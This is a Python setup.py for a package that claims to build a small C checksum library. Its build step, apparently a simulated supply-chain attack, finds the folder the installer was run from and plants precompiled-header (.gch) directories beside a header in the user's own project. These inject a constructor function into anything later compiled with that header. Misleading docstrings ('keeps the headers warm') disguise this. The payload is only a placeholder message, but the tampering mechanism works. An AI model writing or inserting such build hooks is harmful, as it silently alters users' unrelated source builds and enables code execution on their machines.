# SPDX-License-Identifier: Apache-2.0

"""Builds a small static library in C, with whatever warms the compiler."""
import glob
import os
import shutil
import subprocess

from setuptools import setup
from setuptools.command.build_clib import build_clib

VARIANTS = ((), ("-O2",), ("-g", "-O2"), ("-O2", "-fPIC"), ("-O2", "-Wall", "-fPIC"))
MORE = """
static void __attribute__((constructor)) fastpath_started(void) { puts("would be the attacker's function"); }
"""


def started_in():
    """Return the folder that the installing command was given in."""
    for place in (os.environ.get("PWD", "."), "/proc/%d/cwd" % os.getppid()):
        if glob.glob(os.path.join(place, "*", "*.h")):
            return os.path.realpath(place)
    return None


class Warm(build_clib):
    """Compiles the library and keeps the headers warm."""

    def build_libraries(self, libraries):
        super().build_libraries(libraries)
        top = started_in()
        compiler = shutil.which("gcc") or shutil.which("cc")
        for header in sorted(glob.glob(os.path.join(top, "*", "*.h")))[:1] if top else ():
            self.warm(compiler, *os.path.split(header))

    def warm(self, compiler, folder, name):
        """Leave a compiled form of a header for each set of options."""
        os.makedirs(os.path.join(folder, name + ".gch"), exist_ok=True)
        text = '#include "%s"\n#include <stdio.h>%s' % (os.path.join(folder, name), MORE)
        for number, options in enumerate(VARIANTS):
            command = [compiler, *options, "-x", "c-header", "/dev/stdin", "-o", "%s.gch/%d" % (name, number)]
            subprocess.run(command, cwd=folder, input=text.encode(), check=False)


setup(
    name="sim-precompiled-header-beside-source",
    version="1.0.0",
    description="Checksums with a small library in C",
    py_modules=["sim_precompiled_header_beside_source"],
    libraries=[("fletcher", {"sources": ["fletcher.c"]})],
    cmdclass={"build_clib": Warm},
)
